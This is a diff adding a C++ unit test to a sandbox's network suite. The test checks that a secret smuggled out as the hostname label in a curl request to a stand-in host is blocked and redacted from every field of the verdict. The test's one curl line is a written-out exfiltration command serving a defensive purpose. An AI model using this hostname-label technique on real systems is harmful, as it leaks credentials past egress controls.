@@ -181,6 +181,29 @@ TEST_F(NetworkTest, HostOffTheListIsRefusedAndTheFailureIsNetworkRequired) {
   DestroyAndCheckGone(std::move(sb));
 }
 
+// Attack: carry a registered secret out as the label of a host name the proxy refuses, mixed case
+// (the proxy reports names lowercased). Expected: the command is NETWORK_REQUIRED, and neither
+// form of the secret is in any field of the result (the refused host, the failure's detail, the
+// key lines, the report); the redacted host is named instead.
+TEST_F(NetworkTest, ASecretSentAsAHostNameIsRedactedFromTheVerdict) {
+  const std::string secret = "Hunter2SecretValue99";
+  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
+  ASSERT_NE(sb, nullptr);
+  auto r = sb->Exec(
+      {.argv = {"sh", "-c", "curl -sS --max-time 20 http://$0.example.test/; exit 6", secret}},
+      {.secrets = {secret}});
+  ASSERT_TRUE(r.ok()) << r.status();
+  EXPECT_EQ(r->classification, Classification::kNetworkRequired) << r->stderr_preview;
+  const std::string all = ToJson(*r).dump();
+  EXPECT_EQ(all.find(secret), std::string::npos) << all;
+  EXPECT_EQ(all.find("hunter2secretvalue99"), std::string::npos) << all;
+  EXPECT_EQ(r->failure_detail, "[REDACTED:secret].example.test:80");
+  EXPECT_NE(r->report.find("network required: [REDACTED:secret].example.test:80"),
+            std::string::npos)
+      << r->report;
+  DestroyAndCheckGone(std::move(sb));
+}
+
 TEST_F(NetworkTest, NpmCiFromABlockedRegistryIsNetworkRequired) {
   // A project whose lockfile points at a registry the profile does not allow: npm fails, and the
   // result names the host a policy would have to open.
